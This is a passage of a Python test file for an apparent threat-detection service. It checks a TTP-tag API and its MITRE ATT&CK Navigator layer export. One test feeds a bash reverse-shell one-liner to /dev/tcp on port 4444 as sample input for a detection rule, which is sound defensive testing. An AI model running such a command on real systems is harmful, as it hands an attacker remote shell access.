    assert len(body["tags"]) == 50 and body["has_more"] is True
    rest = reader.get(TAGS, {"cursor": body["cursor"]}).json()
    assert len(rest["tags"]) == 1 and rest == rest | {"cursor": None, "has_more": False}


@pytest.mark.parametrize(
    ("params", "detail"),
    [
        ({"limit": 0}, [{"loc": ["query", "limit"], "msg": "limit must be between 1 and 500", "type": "limit_range"}]),
        (
            {"limit": 501},
            [{"loc": ["query", "limit"], "msg": "limit must be between 1 and 500", "type": "limit_range"}],
        ),
        (
            {"limit": "ten"},
            [{"loc": ["query", "limit"], "msg": "Input should be a valid integer", "type": "int_parsing"}],
        ),
        (
            {"entity": "a\x00b", "technique": "T\x00", "rule_id": "\x00"},
            [
                {"loc": ["query", "entity"], "msg": "entity must not contain NUL characters", "type": "string_unicode"},
                {
                    "loc": ["query", "technique"],
                    "msg": "technique must not contain NUL characters",
                    "type": "string_unicode",
                },
                {
                    "loc": ["query", "rule_id"],
                    "msg": "rule_id must not contain NUL characters",
                    "type": "string_unicode",
                },
            ],
        ),
    ],
)
def test_bad_tag_queries_are_422(reader, tagged, params, detail):
    assert_422(reader.get(TAGS, params), detail)


@pytest.mark.parametrize("cursor", ["garbage", "eyJ0IjoxfQ:bad", "x" * 300])
def test_a_malformed_cursor_is_400(reader, tagged, cursor):
    response = reader.get(TAGS, {"cursor": cursor})
    assert response.status_code == 400
    assert response.json() == CURSOR_INVALID


def test_a_cursor_signed_for_another_list_is_400(reader, tagged):
    from stigmem.queries import encode_cursor

    for forged in (encode_cursor("conflicts", {"t": "x", "i": "y"}), encode_cursor("ttp_tags", {"t": "nope"})):
        response = reader.get(TAGS, {"cursor": forged})
        assert response.status_code == 400
        assert response.json() == CURSOR_INVALID


def test_another_tenant_sees_no_tags_and_an_empty_layer(make_client, tagged):
    foreign = make_client(["read", "write", "admin"], tenant="other")
    assert foreign.get(TAGS).json() == {"tags": [], "cursor": None, "has_more": False}
    assert foreign.get(TAGS, {"entity": HOST}).json()["tags"] == []
    assert foreign.get(NAVIGATOR).json()["techniques"] == []


def test_garden_non_members_do_not_see_tags_of_garden_facts(make_client, rule_dir):
    alice = make_client(["read", "write"], entity="stigmem://test/agent/alice")
    mallory = make_client(["read", "write"], entity="stigmem://test/agent/mallory")
    created = alice.post("/v1/gardens", {"slug": "ops", "name": "Ops", "scope": "team"}, format="json")
    assert created.status_code == 201, created.content
    fact = observe(alice, garden_id=f"stigmem://{node_authority()}/garden/ops")
    run_engine()
    assert Tag.objects.get().fact_id == uuid.UUID(fact["id"])

    assert [t["fact_id"] for t in alice.get(TAGS).json()["tags"]] == [fact["id"]]
    assert mallory.get(TAGS).json() == {"tags": [], "cursor": None, "has_more": False}
    assert [t["techniqueID"] for t in alice.get(NAVIGATOR).json()["techniques"]] == ["T1059.004"]
    assert mallory.get(NAVIGATOR).json()["techniques"] == []


def test_tags_of_a_tombstoned_fact_are_hidden(admin_client, client, reader, tagged):
    response = admin_client.post("/v1/tombstones", {"entity_uri": HOST, "scope": "*"}, format="json")
    assert response.status_code == 201, response.content
    assert {t["entity"] for t in reader.get(TAGS).json()["tags"]} == {OTHER_HOST}


def test_tags_need_credentials_and_read(anon, make_client, db):
    response = anon.get(TAGS)
    assert response.status_code == 401 and response.json() == NOT_AUTHENTICATED
    assert anon.get(NAVIGATOR).status_code == 401
    writer = make_client(["write"])
    assert writer.get(TAGS).json() == {"detail": "read permission required"}
    assert writer.get(NAVIGATOR).status_code == 403


# --- GET /v1/ttp/navigator ------------------------------------------------------------------------


def layer(techniques: list[dict], name: str = "stigmem TTP tags", subject: str = "") -> dict:
    return {
        "name": name,
        "versions": {"attack": "18", "navigator": "5.1.0", "layer": "4.5"},
        "domain": "enterprise-attack",
        "description": (
            f"ATT&CK techniques the node's TTP rules tagged in the facts{subject} visible to the requesting key; "
            "score: number of tags. ATT&CK 18.1."
        ),
        "sorting": 0,
        "layout": {
            "layout": "side",
            "aggregateFunction": "average",
            "showID": True,
            "showName": True,
            "showAggregateScores": False,
            "countUnscored": False,
            "expandedSubtechniques": "annotated",
        },
        "hideDisabled": False,
        "techniques": techniques,
        "gradient": {
            "colors": ["#ffffff", "#ff6666"],
            "minValue": 0,
            "maxValue": max([t["score"] for t in techniques], default=1),
        },
        "legendItems": [],
        "metadata": [],
        "links": [],
        "showTacticRowBackground": False,
        "tacticRowBackground": "#dddddd",
        "selectTechniquesAcrossTactics": True,
        "selectSubtechniquesWithParent": False,
    }


def technique(technique_id: str, tactic: str, score: int, rules: str, confidence: str) -> dict:
    return {
        "techniqueID": technique_id,
        "tactic": tactic,
        "score": score,
        "comment": f"{score} tag{'s' if score != 1 else ''} by {rules}; highest confidence {confidence}",
        "enabled": True,
        "metadata": [{"name": "rules", "value": rules}, {"name": "max_confidence", "value": confidence}],
        "showSubtechniques": False,
    }


def test_the_navigator_layer_scores_techniques_by_their_tags(reader, tagged, tmp_path):
    response = reader.get(NAVIGATOR)
    assert response.status_code == 200
    assert response.json() == layer(
        [
            technique("T1059.004", "execution", 2, "R1", "0.9"),
            technique("T1071.004", "command-and-control", 1, "D1", "0.5"),
        ]
    )


def test_the_layer_joins_rules_and_keeps_the_highest_confidence(client, reader, rule_dir):
    write_rule(rule_dir, REVERSE_SHELL, "R2", confidence=0.6)
    load_rules(rule_dir)
    observe(client)
    run_engine()
    (entry,) = reader.get(NAVIGATOR).json()["techniques"]
    assert entry == technique("T1059.004", "execution", 2, "R1, R2", "0.9")


def test_the_layer_of_one_entity(reader, tagged):
    response = reader.get(NAVIGATOR, {"entity": "stigmem://acme/host/DB-1"})
    assert response.json() == layer(
        [technique("T1059.004", "execution", 1, "R1", "0.9")],
        name=f"stigmem TTP tags of {OTHER_HOST}",
        subject=f" of {OTHER_HOST}",
    )


def test_an_empty_layer_is_still_a_valid_layer(reader, db):
    body = reader.get(NAVIGATOR).json()
    assert body == layer([])
    assert body["gradient"]["maxValue"] > body["gradient"]["minValue"]


def test_a_nul_entity_is_422(reader, db):
    assert_422(
        reader.get(NAVIGATOR, {"entity": "\x00"}),
        [{"loc": ["query", "entity"], "msg": "entity must not contain NUL characters", "type": "string_unicode"}],
    )


def test_the_layer_has_the_format_4_5_structure(reader, tagged):
    """Required keys and types of the ATT&CK Navigator layer format 4.5."""
    body = reader.get(NAVIGATOR).json()
    assert isinstance(body["name"], str) and body["name"]
    assert body["domain"] in ("enterprise-attack", "mobile-attack", "ics-attack")
    assert body["versions"]["layer"] == "4.5"
    assert tuple(int(part) for part in body["versions"]["navigator"].split(".")) >= (4, 9, 0)
    assert body["versions"]["attack"].isdigit()
    assert body["sorting"] in (0, 1, 2, 3)
    layout = body["layout"]
    assert layout["layout"] in ("side", "flat", "mini")
    assert layout["aggregateFunction"] in ("average", "min", "max", "sum")
    assert layout["expandedSubtechniques"] in ("none", "all", "annotated")
    for name in ("showID", "showName", "showAggregateScores", "countUnscored"):
        assert isinstance(layout[name], bool)
    for name in (
        "hideDisabled",
        "showTacticRowBackground",
        "selectTechniquesAcrossTactics",
        "selectSubtechniquesWithParent",
    ):
        assert isinstance(body[name], bool)
    gradient = body["gradient"]
    assert len(gradient["colors"]) >= 2 and all(c.startswith("#") and len(c) == 7 for c in gradient["colors"])
    assert gradient["maxValue"] > gradient["minValue"]
    tactics = {t.shortname for t in __import__("ttprules.attack", fromlist=["catalogue"]).catalogue().tactics()}
    for entry in body["techniques"]:
        assert isinstance(entry["techniqueID"], str) and entry["techniqueID"].startswith("T")
        assert entry["tactic"] in tactics
        assert isinstance(entry["score"], int) and isinstance(entry["enabled"], bool)
        assert isinstance(entry["comment"], str) and isinstance(entry["showSubtechniques"], bool)
        assert all(set(m) == {"name", "value"} and isinstance(m["value"], str) for m in entry["metadata"])
    for name in ("legendItems", "metadata", "links", "techniques"):
        assert isinstance(body[name], list)


def test_the_layer_is_counted_by_the_database_not_per_tag(client, reader, rule_dir):
    observe(client)
    run_engine()
    with CaptureQueriesContext(connection) as one:
        reader.get(NAVIGATOR)
    for index in range(10):
        observe(client, f"bash -i >& /dev/tcp/10.2.0.{index}/4444")
    run_engine()
    with CaptureQueriesContext(connection) as eleven:
        body = reader.get(NAVIGATOR).json()
    assert body["techniques"][0]["score"] == 11
    assert len(eleven.captured_queries) == len(one.captured_queries)
    aggregate = [q["sql"] for q in eleven.captured_queries if "ttprules_tag" in q["sql"]]
    assert len(aggregate) == 1 and "COUNT(" in aggregate[0].upper() and "GROUP BY" in aggregate[0].upper()
